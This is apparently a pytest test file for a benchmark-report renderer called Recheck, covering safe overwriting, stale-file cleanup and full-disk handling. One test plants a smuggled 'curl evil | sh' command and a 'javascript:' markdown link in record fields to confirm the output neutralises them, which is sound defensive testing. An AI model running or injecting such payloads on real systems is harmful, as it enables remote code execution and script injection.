"""A report's folder: as a whole or as it was, and nothing of others is lost."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from conftest import one_line, run, tree
from synthetic import SHAPES, SMALL, make_matvec, make_record


def test_rendering_in_place_changes_nothing(report: Callable[..., str], tmp_path: Path) -> None:
    """The folder itself is a record too: rendered from it, into it."""
    report(make_record(SMALL))
    before = tree(tmp_path / "report")
    result = run("render", tmp_path / "report", "--output", tmp_path / "report")
    assert result.returncode == 0 and tree(tmp_path / "report") == before


@pytest.mark.parametrize("name", ["record.json", "report.html", "charts/claims.svg"])
def test_where_no_report_is_no_file_is_overwritten(
    name: str, report: Callable[..., str], tmp_path: Path
) -> None:
    report(make_record(SMALL[:2], strategies=["cpu_blas", "tile16"]))
    other = tmp_path / "other"
    (other / name).parent.mkdir(parents=True)
    (other / name).write_bytes(b"mine")
    result = run("render", tmp_path / "report", "--output", other)
    assert f"{name}: is there, and no report beside it" in one_line(result, 1)
    assert tree(other) == {name: b"mine"}
    # its own bytes do not stand in its way: a run's folder becomes its report
    (other / name).write_bytes((tmp_path / "report" / name).read_bytes())
    assert run("render", tmp_path / "report", "--output", other).returncode == 0


def test_a_folder_may_be_called_like_a_file(report: Callable[..., str], tmp_path: Path) -> None:
    report(make_record(SMALL[:2], strategies=["cpu_blas", "tile16"]))
    folder = shutil.move(tmp_path / "report", tmp_path / "probes_of_mine")
    assert run("render", folder, "--output", tmp_path / "again").returncode == 0


def test_what_a_record_says_is_no_command_and_no_link(
    report: Callable[..., str], tmp_path: Path
) -> None:
    record = make_record(SMALL[:2], strategies=["cpu_blas", "tile16"])
    record["environment"]["command"] = "./x;curl evil | sh"
    record["experiments"][0]["title"] = "[x](javascript:alert(1))"
    text = report(record)
    lines = "\n".join(re.findall(r"```sh\n(.*?)```", text, re.S)).split("\n")
    assert len(lines) > 1 and not any("curl" in line.split("#")[0] for line in lines)
    assert not re.search(r"(?<!\\)\]\(javascript", text)


def test_old_charts_go_and_foreign_files_stay(report: Callable[..., str], tmp_path: Path) -> None:
    report(make_record(SMALL))
    charts = tmp_path / "report" / "charts"
    (charts / "mine.svg").write_text("<svg/>")
    report(make_record(SMALL, gpu=False), drawn=True)
    assert sorted(path.name for path in charts.iterdir()) == ["matmul_cpu_gpu.svg", "mine.svg"]


def test_reports_of_other_records_go_and_what_is_not_ours_stays(
    report: Callable[..., str], tmp_path: Path
) -> None:
    folder, few = tmp_path / "report", ["cpu_blas", "tile16"]
    report(
        make_record(SMALL[:2], gpu=False, strategies=few), make_record(SMALL[:2], strategies=few)
    )
    there = folder / "beside" / "nvidia-h200"
    assert (there / "record.json").exists() and (there / "matmul.md").exists()
    (there / "notes.txt").write_text("mine")
    (folder / "beside" / "theirs").mkdir()
    (folder / "beside" / "theirs" / "README.md").write_text("# Theirs\n")
    (folder / "notes.md").write_text("# Mine\n")
    report(make_record(SMALL[:2], strategies=few))
    left = {name for name in tree(folder) if name.startswith("beside/")}
    assert left == {"beside/nvidia-h200/notes.txt", "beside/theirs/README.md"}
    assert (folder / "notes.md").read_text() == "# Mine\n" and not (there / "charts").exists()


def test_a_page_of_an_experiment_that_is_gone_goes(
    report: Callable[..., str], tmp_path: Path
) -> None:
    report(make_matvec([(64, 64)]))
    assert (tmp_path / "report" / "matvec.md").exists()
    report(make_record(SMALL[:2], strategies=["cpu_blas", "tile16"]))
    assert not (tmp_path / "report" / "matvec.md").exists()


def test_a_foreign_page_is_not_overwritten(save: Callable[..., Path], tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "claims.md").write_text("# My claims\n")
    line = one_line(run("render", save(make_record(SMALL)), "--output", tmp_path / "out"), 1)
    assert "claims.md: is not a report of Recheck" in line
    assert tree(tmp_path / "out") == {"claims.md": b"# My claims\n"}


def test_foreign_readme_is_not_overwritten(save: Callable[..., Path], tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text("# My project\n")
    line = one_line(run("render", save(make_record(SMALL)), "--output", tmp_path), 1)
    assert "README.md: is not a report of Recheck" in line
    assert (tmp_path / "README.md").read_text() == "# My project\n"
    assert not (tmp_path / "charts").exists()


def test_output_is_a_file(save: Callable[..., Path], tmp_path: Path) -> None:
    (tmp_path / "report").write_text("mine")
    line = one_line(run("render", save(make_record(SMALL)), "--output", tmp_path / "report"), 1)
    assert str(tmp_path / "report") in line
    assert (tmp_path / "report").read_text() == "mine"


def test_unwritable_folder(save: Callable[..., Path], tmp_path: Path) -> None:
    if os.geteuid() == 0:
        # root ignores permissions, but nobody can make a folder in /proc
        target = Path("/proc/recheck-report")
    else:
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
        target = locked / "report"
    line = one_line(run("render", save(make_record(SMALL)), "--output", target), 1)
    assert f"error: {target}: cannot be written: " in line


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A file system of 1 MiB: enough for one report of the small record and half of another."""
    mount = tmp_path / "disk"
    mount.mkdir()
    command = ["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(mount)]
    if not shutil.which("mount") or subprocess.run(command, capture_output=True).returncode:
        pytest.skip("no small disk: mounting a tmpfs needs root")
    yield mount
    subprocess.run(["umount", str(mount)], check=True)


def test_full_disk_leaves_the_earlier_report(save: Callable[..., Path], small_disk: Path) -> None:
    target = small_disk / "report"
    result = run("render", save(make_record(SMALL)), "--output", target)
    assert result.returncode == 0, result.stderr
    before = tree(small_disk)
    line = one_line(run("render", save(make_record(SHAPES)), "--output", target), 1)
    assert line == f"error: {target}: cannot be written: No space left on device\n"
    assert tree(small_disk) == before


def test_readme_is_replaced_last(
    report: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A rename that fails half way leaves the earlier README and no temporary file."""
    from recheck_report.commands import output

    report(make_record(SMALL))
    before = tree(tmp_path / "report")
    renames = iter([os.replace])

    def one_rename(source: str, target: Path) -> None:
        rename = next(renames, None)
        if rename is None:
            raise PermissionError(1, "Operation not permitted")
        rename(source, target)

    monkeypatch.setattr(os, "replace", one_rename)
    files = {name: data + b" " for name, data in before.items() if name != "README.md"}
    with pytest.raises(PermissionError):
        output.write({**files, "README.md": before["README.md"] + b" "}, tmp_path / "report")
    after = tree(tmp_path / "report")
    assert set(after) == set(before) and after["README.md"] == before["README.md"]


def test_full_disk_leaves_no_new_folder(save: Callable[..., Path], small_disk: Path) -> None:
    (small_disk / "ballast").write_bytes(bytes(850_000))
    path = save(make_record(SMALL))
    one_line(run("render", path, "--output", small_disk / "a" / "report"), 1)
    assert sorted(tree(small_disk)) == ["ballast"] and not (small_disk / "a").exists()
